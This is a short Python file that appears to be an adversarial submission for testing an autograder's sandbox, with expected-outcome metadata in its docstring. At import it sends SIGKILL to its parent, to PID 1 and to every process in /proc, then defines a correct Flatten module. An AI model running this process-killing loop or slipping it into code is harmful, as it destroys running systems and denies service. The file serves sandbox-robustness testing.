"""Tries to kill its parent and every process it can signal, then answers correctly.
expect: full marks for flatten
needs: root (as any other user these would harm the machine, not just the submission)
score: 3
"""

import os
import signal

from torch import nn

for pid in [os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


class Flatten(nn.Module):
    def forward(self, x):
        return x.reshape(x.shape[0], -1)
